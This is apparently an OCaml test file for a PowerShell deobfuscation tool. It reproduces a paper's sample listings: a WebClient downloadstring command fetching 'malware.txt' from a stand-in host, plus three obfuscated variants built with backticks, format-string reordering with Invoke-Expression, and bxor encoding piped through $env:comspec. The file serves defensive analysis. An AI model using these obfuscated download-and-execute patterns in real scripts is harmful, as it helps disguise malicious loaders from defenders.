(* The paper's own example listings (§II-B): Listing 1 is the clean
   downloader; Listings 2–4 obfuscate it at L1, L2 and L3.  The tool must
   bring each one back. *)

open Pscommon

let check_b = Alcotest.(check bool)
let check_s = Alcotest.(check string)

let listing1 =
  "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')"

(* Listing 2: ticking + random case *)
let listing2 =
  "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')"

(* Listing 3: format reordering over 17 pieces, with a .Replace-encoded
   quote, wrapped in Invoke-Expression — reconstructed faithfully from the
   paper's text *)
let listing3 =
  "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" \
   -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow')\
   .RepLACe('jYU',[STRiNg][CHar]39))"

(* Listing 4: bxor-encoded payload with multiple split separators, invoked
   through $env:comspec indexing — same construction as the paper's, with
   separators consistent with the encoded string *)
let listing4 =
  let payload = listing1 in
  let key = 0x4B in
  let seps = [| "~"; "d"; "}"; "i" |] in
  let codes =
    String.concat ""
      (List.mapi
         (fun i c ->
           (if i = 0 then "" else seps.(i mod 4))
           ^ string_of_int (Char.code c lxor key))
         (List.init (String.length payload) (String.get payload)))
  in
  Printf.sprintf
    "( '%s'-SPLIT'~' -SPLit 'd'-SPliT'}'-SPLiT 'i'| fOrEAch-ObJECt{ [cHAR]($_ \
     -BxoR'0x4B' ) })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')"
    codes

let deobf src =
  Pipeline.output ~options:{ Deobf.Engine.default_options with rename = false } src

let normalized s =
  (* compare on canonical casing *)
  Strcase.lower (String.trim s)

let expect_recovers_listing1 name obfuscated =
  let out = deobf obfuscated in
  check_b (name ^ " reaches listing 1") true
    (Strcase.contains ~needle:"(new-object net.webclient).downloadstring('https://test.com/malware.txt')"
       (normalized out))

let test_listing2 () = expect_recovers_listing1 "listing 2 (L1)" listing2

let test_listing3 () =
  (* the inner format expression alone evaluates to listing 1 with quotes *)
  expect_recovers_listing1 "listing 3 (L2+replace+iex)" listing3

let test_listing4 () = expect_recovers_listing1 "listing 4 (L3 bxor)" listing4

let test_listing3_piece_evaluates () =
  (* sanity: the reconstructed format string assembles the right text *)
  let env = Pseval.Env.create () in
  let piece =
    "(\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" \
     -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow')\
     .RepLACe('jYU',[STRiNg][CHar]39)"
  in
  match Pseval.Interp.invoke_piece env piece with
  | Ok (Psvalue.Value.Str s) ->
      check_s "assembled" "(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')" s
  | Ok _ -> Alcotest.fail "expected string"
  | Error e -> Alcotest.fail e

let test_listings_same_behavior () =
  let reference = Sandbox.run listing1 in
  List.iter
    (fun (name, script) ->
      check_b (name ^ " behaves like listing 1") true
        (Sandbox.same_network_behavior reference (Sandbox.run script));
      let out = deobf script in
      check_b (name ^ " deobfuscated behaves like listing 1") true
        (Sandbox.same_network_behavior reference (Sandbox.run out)))
    [ ("listing2", listing2); ("listing3", listing3); ("listing4", listing4) ]

let suite =
  [
    ("listing 2 recovery", `Quick, test_listing2);
    ("listing 3 recovery", `Quick, test_listing3);
    ("listing 4 recovery", `Quick, test_listing4);
    ("listing 3 piece evaluates", `Quick, test_listing3_piece_evaluates);
    ("listings behaviour", `Quick, test_listings_same_behavior);
  ]
